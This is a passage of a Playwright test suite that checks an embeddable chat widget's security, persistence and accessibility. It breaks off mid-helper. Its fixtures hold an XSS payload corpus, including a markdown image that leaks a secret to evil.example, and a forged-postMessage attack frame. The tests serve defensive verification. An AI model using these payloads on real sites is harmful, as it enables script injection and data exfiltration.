package dev.parley.widget;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.ElementHandle;
import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.ScreenshotAnimations;
import dev.parley.BrowserIntegrationTest;
import dev.parley.LoopbackSite;
import dev.parley.TestWorkspaces;
import dev.parley.knowledge.AwaitDocument;
import dev.parley.knowledge.KnowledgeService;
import dev.parley.platform.OwnerDatabase;
import dev.parley.tenancy.Bot;
import dev.parley.tenancy.BotService;
import dev.parley.tenancy.BotSettings;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;

/**
 * The widget in Debian's Chromium, embedded the way a site embeds it: host pages are served by a small
 * JDK server on 127.0.0.1 (a second origin), Parley is reached as localhost. Also takes the widget's
 * screenshots (see {@link #SHOTS}).
 */
class WidgetBrowserTest extends BrowserIntegrationTest {

    static final Path NODE_MODULES = Path.of("widget-embed/node_modules");
    static final String STARTER = "What are the opening hours?";

    /** A real CSS framework and the meanest global rules a site could have. */
    static final String HOSTILE_CSS = """
            * { all: revert !important; font: 30px serif !important; box-sizing: content-box !important;
                line-height: 3 !important; letter-spacing: 4px !important; color: #f0f !important; }
            html, body { margin: 0 !important; background: #ffe !important; }
            button, [role=button] { background: red !important; border: 5px solid lime !important;
                width: 300px !important; height: 10px !important; border-radius: 0 !important;
                position: absolute !important; top: 0 !important; left: 0 !important; }
            iframe { display: none !important; width: 1px !important; height: 1px !important; border: 9px dashed blue !important; }
            div, span, parley-launcher, parley-chat { position: static !important; display: inline !important;
                transform: scale(.5) !important; filter: invert(1) !important; opacity: .2 !important; }
            *:focus { outline: 10px solid orange !important; }
            svg, path { fill: green !important; stroke: yellow !important; stroke-width: 9 !important; }
            """;

    static LoopbackSite site;
    static LoopbackSite stranger;
    static final Map<String, String> PAGES = new ConcurrentHashMap<>();

    @Autowired TestWorkspaces workspaces;
    @Autowired BotService bots;
    @Autowired KnowledgeService knowledge;
    @Autowired ApplicationContext spring;

    @BeforeAll
    static void serveSites() {
        site = LoopbackSite.serving(WidgetBrowserTest::hostContent);
        stranger = LoopbackSite.serving(WidgetBrowserTest::hostContent);
    }

    /** What a host site serves: pages from {@link #PAGES}, Bootstrap from widget-embed's node_modules. */
    static LoopbackSite.Content hostContent(String path) {
        if (path.equals("/bootstrap.min.css")) {
            try {
                return new LoopbackSite.Content("text/css", Files.readAllBytes(NODE_MODULES.resolve("bootstrap/dist/css/bootstrap.min.css")));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        String page = PAGES.get(path);
        return page == null ? null : LoopbackSite.Content.html(page);
    }

    @AfterAll
    static void stopSites() {
        if (site != null) site.close();
        if (stranger != null) stranger.close();
    }

    // ---- tests ---------------------------------------------------------------------------------

    @Test
    void onAHostilePageTheWidgetLooksAsOnABlankPageAndTheWholeFlowWorks() throws Exception {
        Bot bot = botWithDocs(List.of(site.origin()), Map.of("Opening hours", OPENING_HOURS));
        PAGES.put("/blank.html", page("Blank", "", bot));
        PAGES.put("/hostile.html", page("Hostile",
                "<link rel=\"stylesheet\" href=\"/bootstrap.min.css\"><style>" + HOSTILE_CSS + "</style>", bot)
                .replace("<body>", "<body><nav class=\"navbar navbar-dark bg-dark fixed-bottom\"><div class=\"container\">"
                        + "<button class=\"btn btn-primary\">Shop</button></div></nav>" + "<p class=\"lead\">Hello</p>".repeat(20)));

        Page blank = open(1440, 900);
        blank.navigate(site.origin() + "/blank.html");
        BufferedImage blankLauncher = launcherShot(blank);
        ElementHandle blankFrame = openPanel(blank);
        BufferedImage blankPanel = panelShot(blank, blankFrame);
        var blankBox = blankFrame.boundingBox();
        context.close();

        Page page = open(1440, 900);
        List<String> eventStreams = new CopyOnWriteArrayList<>();
        page.onResponse(r -> {
            if (r.url().matches(".*/api/v1/conversations/.*/messages") && r.request().method().equals("POST")) {
                eventStreams.add(r.headers().getOrDefault("content-type", ""));
            }
        });
        page.navigate(site.origin() + "/hostile.html");
        assertThat(page.evaluate("getComputedStyle(document.body).fontFamily")).as("Bootstrap and the resets are applied").isEqualTo("serif");
        BufferedImage hostileLauncher = launcherShot(page);
        double launcherDiff = diff(blankLauncher, hostileLauncher, 26);
        assertThat(launcherDiff).as("launcher pixels that differ from the blank page: %.4f", launcherDiff).isLessThan(0.01);
        ElementHandle frameElement = openPanel(page);
        var box = frameElement.boundingBox();
        assertThat(List.of(box.x, box.y, box.width, box.height)).as("panel position and size")
                .isEqualTo(List.of(blankBox.x, blankBox.y, blankBox.width, blankBox.height));
        BufferedImage hostilePanel = panelShot(page, frameElement);
        double panelDiff = diff(blankPanel, hostilePanel, 0);
        assertThat(panelDiff).as("panel pixels that differ from the blank page: %.4f", panelDiff).isLessThan(0.01);

        Frame chat = frameElement.contentFrame();
        chat.locator(".starter", new Frame.LocatorOptions().setHasText(STARTER)).click();
        Locator answer = chat.locator(".log .msg.bot").filter(new Locator.FilterOptions().setHas(chat.locator(".actions")));
        assertThat(answer).hasCount(1);
        assertThat(answer.locator(".bubble")).containsText("Saturday");
        assertThat(eventStreams).as("the answer came as an event stream").singleElement().asString().startsWith("text/event-stream");
        assertThat(chat.locator(".log .msg.user")).hasText("You: " + STARTER);

        Locator chip = answer.locator(".cite").first();
        assertThat(chip).hasAttribute("aria-label", java.util.regex.Pattern.compile("Source \\d+: Opening hours"));
        chip.click();
        assertThat(answer.locator(".pop")).containsText("Opening hours");
        assertThat(chip).hasAttribute("aria-expanded", "true");

        Locator up = answer.getByRole(com.microsoft.playwright.options.AriaRole.BUTTON,
                new Locator.GetByRoleOptions().setName("Helpful").setExact(true));
        up.click();
        assertThat(up).hasAttribute("aria-pressed", "true");
        assertThat(chat.locator(".status")).hasText("Thanks for your feedback");
        assertThat(OwnerDatabase.jdbc(spring).sql("""
                SELECT f.rating FROM feedback f JOIN messages m ON m.tenant_id = f.tenant_id AND m.id = f.message_id
                JOIN conversations c ON c.tenant_id = m.tenant_id AND c.id = m.conversation_id WHERE c.bot_id = ?""")
                .param(bot.id()).query(Integer.class).list()).as("stored feedback").containsExactly(1);

        // A Playwright context is like an incognito window: Chromium denies Parley's third-party iframe its
        // localStorage, so the loader keeps the session on the host page (DD-030); either way the reload continues.
        page.reload();
        frameElement = openPanel(page);
        chat = frameElement.contentFrame();
        assertThat(chat.locator(".log .msg.user")).hasText("You: " + STARTER);
        answer = chat.locator(".log .msg.bot").filter(new Locator.FilterOptions().setHas(chat.locator(".actions")));
        assertThat(answer.locator(".bubble")).containsText("Saturday");
        assertThat(answer.getByRole(com.microsoft.playwright.options.AriaRole.BUTTON,
                new Locator.GetByRoleOptions().setName("Helpful").setExact(true))).hasAttribute("aria-pressed", "true");
        assertThat(chat.locator(".starter")).hasCount(0);

        int before = conversations(bot);
        chat.getByRole(com.microsoft.playwright.options.AriaRole.BUTTON,
                new Frame.GetByRoleOptions().setName("New conversation")).click();
        assertThat(chat.locator(".log .msg.user")).hasCount(0);
        assertThat(chat.locator(".log .msg")).hasCount(1); // the welcome message
        assertThat(chat.locator(".starter")).hasCount(1);
        assertThat(conversations(bot)).as("a new conversation").isEqualTo(before + 1);
    }

    @Test
    void theConversationAndDraftSurviveAReloadAndAnotherPageOfTheSiteWithThirdPartyStorageBlockedButAnotherSiteIsAStranger() {
        Bot bot = botWithDocs(List.of(site.origin(), stranger.origin()), Map.of("Opening hours", OPENING_HOURS));
        PAGES.put("/first.html", page("First", "", bot));
        PAGES.put("/second.html", page("Second", "", bot));
        Page page = open(1440, 900);
        page.navigate(site.origin() + "/first.html");
        Frame chat = openPanel(page).contentFrame();
        assertThat(chat.evaluate("() => { try { localStorage.length; return 'own'; } catch (e) { return 'blocked'; } }"))
                .as("Chromium blocks the third-party iframe's storage here, so this test runs the relay").isEqualTo("blocked");
        chat.locator(".starter").click();
        assertThat(chat.locator(".log .msg.bot .actions")).hasCount(1);
        String conversation = lastConversation(bot);
        chat.locator("textarea").fill("and on Sunday?");
        // STORE crosses frames by postMessage: wait for it to land rather than read at once
        page.waitForFunction("k => (localStorage.getItem(k) || '').includes('and on Sunday?')", "parley." + bot.publicKey());
        assertThat(page.evaluate("k => localStorage.getItem(k)", "parley." + bot.publicKey()))
                .as("kept by the loader on the host page").asString().contains(conversation).contains("and on Sunday?");

        page.reload();
        chat = openPanel(page).contentFrame();
        assertThat(chat.locator(".log .msg.user")).hasText("You: " + STARTER);
        assertThat(chat.locator("textarea")).hasValue("and on Sunday?");

        page.navigate(site.origin() + "/second.html");
        chat = openPanel(page).contentFrame();
        assertThat(chat.locator(".log .msg.user")).hasText("You: " + STARTER);
        assertThat(chat.locator(".log .msg.bot .bubble").last()).containsText("Saturday");
        assertThat(lastConversation(bot)).as("still the same conversation").isEqualTo(conversation);
        assertThat(conversations(bot)).isEqualTo(1);

        page.navigate(stranger.origin() + "/first.html");
        chat = openPanel(page).contentFrame();
        assertThat(chat.locator(".starter")).hasCount(1);
        assertThat(chat.locator(".log .msg.user")).hasCount(0); // another site: a stranger
        assertThat(chat.locator("textarea")).hasValue("");
        assertThat(conversations(bot)).isEqualTo(2);
    }

    @Test
    void anIdentifiedVisitorContinuesOnAnotherDeviceAndAForgedIdentityLeavesAnAnonymousChat() {
        Bot bot = botWithDocs(List.of(site.origin()), Map.of("Opening hours", OPENING_HOURS));
        String secret = bots.regenerateIdentitySecret(bot.id());
        String token = WidgetApiTest.identityToken(secret, c -> c.subject("customer-42").claim("name", "Ada"));
        PAGES.put("/account.html", page("Account", "", bot).replace("async>", "async onload=\"Parley.identify('" + token + "')\">"));
        Page page = open(1440, 900);
        page.navigate(site.origin() + "/account.html");
        Frame chat = openPanel(page).contentFrame();
        chat.locator(".starter").click();
        assertThat(chat.locator(".log .msg.bot .actions")).hasCount(1);
        context.close();

        page = open(390, 844); // another device: a new browser profile, nothing stored
        page.navigate(site.origin() + "/account.html");
        chat = openPanel(page).contentFrame();
        assertThat(chat.locator(".log .msg.user")).hasText("You: " + STARTER);
        assertThat(conversations(bot)).isEqualTo(1);
        context.close();

        String forged = WidgetApiTest.identityToken("pvs_" + "f".repeat(43), c -> c.subject("customer-42"));
        PAGES.put("/forged-identity.html", page("Forged identity", "", bot).replace("async>", "async onload=\"Parley.identify('" + forged + "')\">"));
        page = open(1440, 900);
        List<String> console = new CopyOnWriteArrayList<>();
        page.onConsoleMessage(m -> console.add(m.text()));
        page.navigate(site.origin() + "/forged-identity.html");
        chat = openPanel(page).contentFrame();
        assertThat(chat.locator(".starter")).hasCount(1);
        assertThat(chat.locator(".log .msg.user")).hasCount(0);
        chat.locator(".starter").click();
        assertThat(chat.locator(".log .msg.bot .actions")).hasCount(1); // the anonymous chat works
        assertThat(console).anyMatch(m -> m.contains("Parley.identify(): The identity token is not valid: its signature"));
        assertThat(conversations(bot)).isEqualTo(2);
    }

    @Test
    void theLauncherAppearsOnceInTheBotsSavedColourAndSide() {
        workspaces.newOwner();
        BotSettings d = BotSettings.defaults("Lamp helper");
        Bot bot = bots.create(new BotSettings("Lamp helper", d.persona(), "Hi!", List.of(STARTER), "#b45309",
                BotSettings.Position.LEFT, "en", List.of(site.origin()), BotSettings.Theme.AUTO));
        PAGES.put("/saved-look.html", page("Saved look", "", bot));
        PAGES.put("/snippet-look.html", page("Snippet look", "", bot).replace("async>", "data-color=\"#b45309\" data-position=\"left\" async>"));
        String watch = """
                window.drawn = []; window.inserted = [];
                const replace = CSSStyleSheet.prototype.replaceSync;
                CSSStyleSheet.prototype.replaceSync = function (css) { drawn.push(css); return replace.call(this, css); };
                new MutationObserver((records) => records.forEach((r) => r.addedNodes.forEach((n) => {
                  if (n.localName === 'parley-launcher') inserted.push(performance.now());
                }))).observe(document, {childList: true, subtree: true});
                """;
        Map<String, List<Double>> delays = new java.util.LinkedHashMap<>();
        for (String path : List.of("/saved-look.html", "/snippet-look.html")) {
            Page page = open(1440, 900);
            page.addInitScript(watch);
            List<Double> ms = new ArrayList<>();
            for (int run = 0; run < 7; run++) {
                page.navigate(site.origin() + path);
                page.waitForFunction("() => inserted.length > 0");
                page.waitForTimeout(300);
                assertThat(page.evaluate("inserted.length")).as("put on the page once").isEqualTo(1);
                @SuppressWarnings("unchecked")
                List<String> css = (List<String>) page.evaluate("drawn");
                assertThat(css).as("drawn once, already in its final look").singleElement().asString()
                        .contains("background:#b45309").contains("left:20px").doesNotContain("right:20px");
                ms.add(((Number) page.evaluate("""
                        () => inserted[0] - performance.getEntriesByType('resource').find((e) => e.name.endsWith('/embed.js')).responseEnd""")).doubleValue());
            }
            var size = page.viewportSize();
            BufferedImage launcher = image(page.screenshot(new Page.ScreenshotOptions().setClip(20, size.height - 76, 56, 56)));
            assertThat(launcher.getRGB(10, 28) & 0xffffff).as("the launcher bottom left, in the bot's colour").isEqualTo(0xb45309);
            delays.put(path, ms.stream().sorted().toList());
            context.close();
            context = null;
        }
        System.out.println("WidgetBrowserTest: embed.js loaded to launcher on the page, ms (sorted, 7 runs): " + delays);
    }

    @Test
    void onASiteThatIsNotAllowedTheFrameDoesNotRenderAndNoSessionIsIssued() {
        Bot bot = botWithDocs(List.of(site.origin()), Map.of());
        PAGES.put("/elsewhere.html", page("Elsewhere", "", bot));
        Page page = open(1440, 900);
        List<String> widgetCalls = new CopyOnWriteArrayList<>();
        page.onResponse(r -> {
            if (r.url().contains("/api/v1/widget/")) widgetCalls.add(r.request().method() + " " + r.url() + " " + r.status());
        });
        page.navigate(stranger.origin() + "/elsewhere.html");
        clickLauncher(page);
        Frame frame = widgetFrame(page);
        ElementHandle frameElement = frame.frameElement();
        assertThat(frameElement.isVisible()).as("the panel opened").isTrue();
        page.waitForTimeout(1500);
        assertThat(frame.url()).as("frame-ancestors blocked the frame").doesNotContain("/widget/frame");
        assertThat(frame.locator("parley-chat").count()).isZero();
        // the page itself asks for a session for the allowed site: the server checks the Origin too
        Object status = page.evaluate("""
                ([url, bot, host]) => fetch(url + '/api/v1/widget/sessions', {method: 'POST',
                  headers: {'Content-Type': 'application/json'}, body: JSON.stringify({bot, host, newConversation: true})})
                  .then(r => r.status, e => 'refused: ' + e.message)""", List.of("http://localhost:" + port, bot.publicKey(), site.origin()));
        assertThat(String.valueOf(status)).as("a session asked for from a site that is not allowed").doesNotMatch("2\\d\\d");
        assertThat(widgetCalls).noneMatch(c -> c.matches("POST .*/sessions 2\\d\\d"));
        assertThat(conversations(bot)).as("no conversation, so no session token").isZero();
    }

    @Test
    void forgedMessagesFromAFrameOfAnotherSiteAndBadlyShapedOnesFromTheHostPageChangeNothing() {
        Bot bot = botWithDocs(List.of(site.origin()), Map.of());
        String parley = "http://localhost:" + port;
        // An ad frame of another site inside the allowed host page. Once it holds the widget's window (a
        // message from it is enough), it posts forged loader messages into the widget; and forged iframe
        // messages to the host page's loader.
        PAGES.put("/evil.html", """
                <!doctype html><script>
                const forgeries = [{v: 1, type: 'CONFIG', open: true, focus: true, identity: 'aaa.bbb.ccc',
                    saved: JSON.stringify({session: {token: 'aaa.bbb.ccc', conversationId: '00000000-0000-0000-0000-000000000000'}, draft: 'forged'})},
                  {v: 1, type: 'OPEN'}, {v: 1, type: 'CLOSE'}, {v: 1, type: 'NEW_CONVERSATION'}, {v: 1, type: 'IDENTIFY', token: 'aaa.bbb.ccc'}];
                const toLoader = [{v: 1, type: 'STORE', data: 'forged'}, {v: 1, type: 'UNREAD', count: 7}, {v: 1, type: 'OPEN'},
                  {v: 1, type: 'CLOSE'}, {v: 1, type: 'READY'}, {v: 1, type: 'MESSAGE', role: 'assistant', text: 'forged'}];
                addEventListener('message', (e) => {
                  if (e.data === 'hello' && e.source !== parent) {
                    for (const m of forgeries) { e.source.postMessage(m, 'PARLEY'); e.source.postMessage(m, '*'); }
                    parent.postMessage({forged: 'widget'}, '*');
                  } else if (e.data && e.data.evil) {
                    for (const m of toLoader) parent.postMessage(m, '*');
                    parent.postMessage({forged: e.data.evil, frames: parent.frames.length}, '*');
                  }
                });
                </script>""".replace("PARLEY", parley));
        PAGES.put("/forged.html", page("Forged", "", bot).replace("</body>", """
                <iframe id="evil" src="STRANGER/evil.html" title="Ads"></iframe>
                <script>
                window.seen = []; window.forged = []; window.widget = null;
                addEventListener('message', (e) => {
                  if (e.data && e.data.forged) forged.push(e.data);
                  if (e.data && e.data.type === 'READY' && !widget) widget = e.source; // the host page can hold the widget's window too
                });
                const watch = () => window.Parley ? ['open', 'close', 'message'].forEach(n => Parley.on(n, () => seen.push(n))) : setTimeout(watch, 20);
                watch();
                </script></body>""".replace("STRANGER", stranger.origin())));
        Page page = open(1440, 900);
        List<String> sessions = new CopyOnWriteArrayList<>();
        page.onRequest(r -> {
            if (r.url().endsWith("/api/v1/widget/sessions")) sessions.add(r.url());
        });
        page.navigate(site.origin() + "/forged.html");
        ElementHandle frameElement = openPanel(page);
        Frame chat = frameElement.contentFrame();
        chat.locator("textarea").fill("my draft");
        page.waitForFunction("k => (localStorage.getItem(k) || '').includes('my draft')", "parley." + bot.publicKey());
        Object kept = page.evaluate("k => localStorage.getItem(k)", "parley." + bot.publicKey());
        int messages = chat.locator(".log .msg").count();
        assertThat(sessions).hasSize(1);

        // The widget says hello to every frame of the page: now the ad frame holds its window and forges.
        chat.evaluate("() => { for (let i = 0; i < parent.frames.length; i++) parent.frames[i].postMessage('hello', '*'); }");
        page.waitForFunction("() => forged.some((f) => f.forged === 'widget')");
        page.evaluate("() => document.getElementById('evil').contentWindow.postMessage({evil: 'loader'}, '*')");
        page.waitForFunction("() => forged.some((f) => f.forged === 'loader')");
        assertThat(page.evaluate("forged.find((f) => f.forged === 'loader').frames"))
                .as("the widget's iframe, in the loader's closed shadow root, is not among the page's frames").isEqualTo(1);
        // The host page itself (the right origin and window) with messages of the wrong shape or version.
        page.evaluate("""
                (origin) => [{v: 2, type: 'NEW_CONVERSATION'}, {type: 'NEW_CONVERSATION'}, {v: '1', type: 'NEW_CONVERSATION'}, 'NEW_CONVERSATION',
                  {v: 1, type: 'IDENTIFY', token: {sub: 'x'}}, {v: 1, type: 'IDENTIFY', token: 'not a jwt'}, {v: 1, type: 'constructor'},
                  {v: 1, type: '__proto__'}, {v: 1}, null, {v: 1, type: 'CONFIG', open: true, saved: 42, identity: {}},
                  {v: 1, type: 'CONFIG', open: true, saved: '{"session":{"token":"aaa.bbb.ccc","conversationId":"00000000-0000-0000-0000-000000000000"}}'}]
                  .forEach((m) => widget.postMessage(m, origin))""", parley);
        page.waitForTimeout(800);

        assertThat(sessions).as("no new session or conversation").hasSize(1);
        assertThat(conversations(bot)).isEqualTo(1);
        assertThat(frameElement.isVisible()).as("panel still open").isTrue();
        assertThat(page.evaluate("seen")).as("Parley events").isEqualTo(List.of("open"));
        assertThat(chat.locator("textarea")).hasValue("my draft");
        assertThat(chat.locator(".log .msg")).hasCount(messages);
        assertThat(chat.locator(".title")).hasText("Lamp helper");
        assertThat(chat.locator("textarea")).isEnabled();
        assertThat(page.evaluate("k => localStorage.getItem(k)", "parley." + bot.publicKey())).as("what the loader keeps").isEqualTo(kept);

        page.evaluate("Parley.close()");
        page.evaluate("() => document.getElementById('evil').contentWindow.postMessage({evil: 'again'}, '*')");
        page.waitForFunction("() => forged.some((f) => f.forged === 'again')");
        page.waitForTimeout(300);
        assertThat(frameElement.isVisible()).as("panel stays closed").isFalse();
        assertThat(page.evaluate("seen")).isEqualTo(List.of("open", "close"));
    }

    @Test
    void anXssCorpusInAnswersAndSourceTitlesRunsNothingAndSendsNothing() {
        String corpus = "<script>alert(1)</script> <img src=x onerror=alert(1)> [click](javascript:alert(1)) "
                + "![x](https://evil.example/?q=secret) <svg onload=alert(1)> "
                + "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"> <a href=\"javascript:alert(1)\">x</a> "
                + "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe> [a](data:text/html,<script>alert(1)</script>)";
        String titles = "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>";
        Bot bot = botWithDocs(List.of(site.origin()), Map.of(
                "Parcel delivery " + titles, "Parcel delivery: parcels ship within two days. " + corpus
                        + " Parcel delivery is free above 50 euros. " + corpus,
                "Warranty [x](javascript:alert(1)) " + titles, "Warranty: every lamp has a warranty of five years. " + corpus));
        PAGES.put("/xss.html", page("XSS", "", bot));
        Page page = open(1440, 900);
        List<String> dialogs = new CopyOnWriteArrayList<>();
        page.onDialog(d -> {
            dialogs.add(d.message());
            d.dismiss();
        });
        List<String> foreign = new CopyOnWriteArrayList<>();
        context.onRequest(r -> {
            String host = URI.create(r.url()).getHost();
            if (!r.url().startsWith("data:") && !"127.0.0.1".equals(host) && !"localhost".equals(host)) foreign.add(r.url());
        });
        page.navigate(site.origin() + "/xss.html");
        Frame chat = openPanel(page).contentFrame();
        for (String question : List.of("How does parcel delivery work?", "What warranty do lamps have?")) {
            chat.locator("textarea").fill(question);
            chat.locator("textarea").press("Enter");
            assertThat(chat.locator(".log .msg.bot .actions")).hasCount(question.startsWith("How") ? 1 : 2);
        }
        Locator answers = chat.locator(".log .msg.bot").filter(new Locator.FilterOptions().setHas(chat.locator(".actions")));
        assertThat(answers.first().locator(".bubble")).containsText("alert(1)");
        for (Locator chip : chat.locator(".cite").all()) {
            chip.click();
            assertThat(chat.locator(".pop")).containsText("alert(1)");
            chip.click();
        }
        page.waitForTimeout(1000);
        assertThat(dialogs).as("dialogs").isEmpty();
        assertThat(foreign).as("requests to other hosts").isEmpty();
        Map<?, ?> found = (Map<?, ?>) chat.evaluate("""
                () => {
                  const root = document.querySelector('parley-chat').shadowRoot;
                  const all = [...root.querySelectorAll('*')];
                  return {
                    dangerous: root.querySelectorAll('.log script, .log img, .log svg:not(button svg), .log iframe, .log noscript, .pop *').length,
                    handlers: all.filter(e => [...e.attributes].some(a => /^on/i.test(a.name))).length,
                    badLinks: root.querySelectorAll('a[href]:not([href^="http:"]):not([href^="https:"]):not([href^="mailto:"])').length,
                    scripts: document.scripts.length,
                  };
                }""");
        assertThat(found).isEqualTo(Map.of("dangerous", 0, "handlers", 0, "badLinks", 0, "scripts", 1));
    }

    @Test
    void keyboardOnly() {
        Bot bot = botWithDocs(List.of(site.origin()), Map.of("Opening hours", OPENING_HOURS));
        PAGES.put("/keyboard.html", page("Keyboard", "", bot));
        Page page = open(1440, 900);
        page.navigate(site.origin() + "/keyboard.html");
        waitForLauncher(page);
        page.keyboard().press("Tab");
        assertThat(page.evaluate("document.activeElement.localName")).as("Tab reaches the launcher").isEqualTo("parley-launcher");
        page.keyboard().press("Enter");
        Frame chat = widgetFrame(page);
        assertThat(chat.locator("textarea")).isEnabled();
        assertThat(chat.locator("textarea")).isFocused();
        page.keyboard().type("When is the shop open on Saturday?");
        page.keyboard().press("Enter");
        assertThat(chat.locator(".log .msg.bot .actions")).hasCount(1);
        assertThat(chat.locator(".log .msg.user")).hasText("You: When is the shop open on Saturday?");

        List<String> visited = new ArrayList<>();
        for (int i = 0; i < 12; i++) {
            page.keyboard().press("Tab");
            assertThat(page.evaluate("document.activeElement.localName")).as("focus stays in the panel").isEqualTo("parley-launcher");
            visited.add((String) chat.evaluate("""
                    () => { const a = document.querySelector('parley-chat').shadowRoot.activeElement;
                            return a ? a.localName + ':' + (a.getAttribute('aria-label') || a.textContent) : 'none'; }"""));
        }
        assertThat(visited).as("Tab cycles inside the panel").doesNotContain("none").contains(
                "button:New conversation", "button:Close chat", "button:Helpful", "textarea:Type your message…");
        int first = visited.indexOf("button:New conversation");
        assertThat(visited.lastIndexOf("button:New conversation")).as("cycled round: %s", visited).isGreaterThan(first);

        page.keyboard().press("Escape");
        assertThat(widgetFrame(page).frameElement().isVisible()).as("Esc closed the panel").isFalse();
        assertThat(page.evaluate("document.activeElement.localName")).as("focus back on the launcher").isEqualTo("parley-launcher");
        page.keyboard().press("Enter");
        assertThat(widgetFrame(page).frameElement().isVisible()).as("Enter on the launcher opens it again").isTrue();
    }

    @Test
    void axeFindsNoSeriousOrCriticalViolation() {
        Bot bot = botWithDocs(List.of(site.origin()), Map.of("Opening hours", OPENING_HOURS));
        PAGES.put("/axe.html", page("Axe", "", bot));
        for (String scheme : List.of("light", "dark")) {
            Page page = newContext(window(1440, 900).setBypassCSP(true)
                    .setColorScheme(com.microsoft.playwright.options.ColorScheme.valueOf(scheme.toUpperCase()))).newPage();
            page.navigate(site.origin() + "/axe.html");
            Frame chat = openPanel(page).contentFrame();
            chat.locator(".starter").first().click();
            assertThat(chat.locator(".log .msg.bot .actions")).hasCount(1);
            chat.locator(".cite").first().click();
            chat.addScriptTag(new Frame.AddScriptTagOptions().setPath(NODE_MODULES.resolve("axe-core/axe.min.js")));
            @SuppressWarnings("unchecked")
            List<String> violations = (List<String>) chat.evaluate("""
                    () => axe.run(document, {resultTypes: ['violations']}).then(r => r.violations
                      .filter(v => v.impact === 'serious' || v.impact === 'critical')
                      .map(v => v.id + ' (' + v.impact + '): ' + v.nodes.map(n => n.target.join(' ')).join(', ')))""");
            assertThat(violations).as("serious or critical axe violations, %s theme", scheme).isEmpty();
            context.close();
            context = null;
        }
    }

    @Test
    void screenshotsOnADesktopAndAPhone() {
        Bot bot = botWithDocs(List.of(site.origin()), Map.of("Opening hours", OPENING_HOURS));
        PAGES.put("/shop.html", page("Lindenweg Lamps", "<style>body{margin:0;font:16px/1.5 system-ui,sans-serif;color:#1f2937}"
                + "header{background:#0f172a;color:#fff;padding:18px 40px;font-weight:700;font-size:20px}"
                + "main{max-width:760px;padding:40px}h1{font-size:34px;margin:0 0 12px}</style>", bot)
                .replace("<body>", "<body><header>Lindenweg Lamps</header><main><h1>Lamps made to last</h1>"
                        + "<p>Hand-made lamps from our workshop in Lindenweg. Free delivery above 50 euros, "
                        + "five years of warranty on every lamp.</p><p>Questions? Ask our assistant, bottom right.</p></main>")
                .replace("async>", "data-color=\"#0f766e\" async>")); // the launcher draws before any request: the site gives its colour
        for (String device : List.of("desktop", "mobile")) {
            Page page = device.equals("desktop") ? open(1440, 900) : open(390, 844);
            page.navigate(site.origin() + "/shop.html");
            waitForLauncher(page);
            shot(page, "closed", device);
            Frame chat = openPanel(page).contentFrame();
            chat.locator(".starter").first().click();
            assertThat(chat.locator(".log .msg.bot .actions")).hasCount(1);
            chat.locator(".cite").first().click();
            assertThat(chat.locator(".pop")).isVisible();
            shot(page, "open", device);
            context.close();
            context = null;
        }
    }

    // ---- helpers -------------------------------------------------------------------------------

    static final String OPENING_HOURS = "Opening hours: the Lindenweg shop is open Monday to Friday from 9:00 to 18:00 "
            + "and on Saturday from 10:00 to 14:00. On Sunday the shop is closed. The opening hours on public holidays "
            + "are announced on this page a week before.";

    Bot botWithDocs(List<String> origins, Map<String, String> docs) {
        workspaces.newOwner();
        BotSettings d = BotSettings.defaults("Lamp helper");
        Bot bot = bots.create(new BotSettings("Lamp helper", d.persona(), "Hi! Ask me about our lamps and the shop.",
                List.of(STARTER), "#0f766e", BotSettings.Position.RIGHT, "en", origins, BotSettings.Theme.AUTO));
        docs.forEach((title, body) -> AwaitDocument.finished(knowledge, knowledge.addText(bot.id(), title, body).id()));
        return bot;
    }

    String lastConversation(Bot bot) {
        return OwnerDatabase.jdbc(spring).sql("SELECT id::text FROM conversations WHERE bot_id = ? ORDER BY started_at DESC LIMIT 1")
                .param(bot.id()).query(String.class).single();
    }

    int conversations(Bot bot) {
        return OwnerDatabase.jdbc(spring).sql("SELECT count(*) FROM conversations WHERE bot_id = ?").param(bot.id())
                .query(Integer.class).single();
    }

    String page(String title, String head, Bot bot) {
        return "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><meta name=\"viewport\" "
                + "content=\"width=device-width,initial-scale=1\"><title>" + title + "</title>" + head + "</head><body>"
                + "<script src=\"http://localhost:" + port + "/embed.js\" data-bot=\"" + bot.publicKey() + "\" async></script>"
                + "</body></html>";
    }

    Page open(int width, int height) {
        return newContext(window(width, height)).newPage();
    }

    /** The launcher lives in a closed shadow root: a visitor finds it bottom right, and so does this test. */
    static void clickLauncher(Page page) {
        waitForLauncher(page);
        var size = page.viewportSize();
        page.mouse().click(size.width - 48, size.height - 48);
    }

    static Frame widgetFrame(Page page) {
        page.waitForCondition(() -> page.frames().stream().anyMatch(f -> f.parentFrame() != null && isWidget(f)));
        return page.frames().stream().filter(f -> f.parentFrame() != null && isWidget(f)).findFirst().orElseThrow();
    }

    private static boolean isWidget(Frame f) {
        try {
            return !f.url().endsWith("/evil.html") && f.frameElement().getAttribute("sandbox") != null;
        } catch (RuntimeException e) {
            return false;
        }
    }

    /** Opens the panel with the mouse and waits until the chat is ready; the iframe element. */
    static ElementHandle openPanel(Page page) {
        clickLauncher(page);
        Frame chat = widgetFrame(page);
        assertThat(chat.locator("textarea")).isEnabled();
        assertThat(chat.locator(".log .msg.bot").first()).isVisible();
        chat.waitForFunction("() => !document.querySelector('parley-chat').style.visibility");
        return chat.frameElement();
    }

    /** The loader puts the launcher on the page once it knows the bot's look (one config request). */
    static void waitForLauncher(Page page) {
        page.waitForFunction("() => !!window.Parley && !!document.querySelector('parley-launcher')");
    }

    static BufferedImage launcherShot(Page page) {
        waitForLauncher(page);
        var size = page.viewportSize();
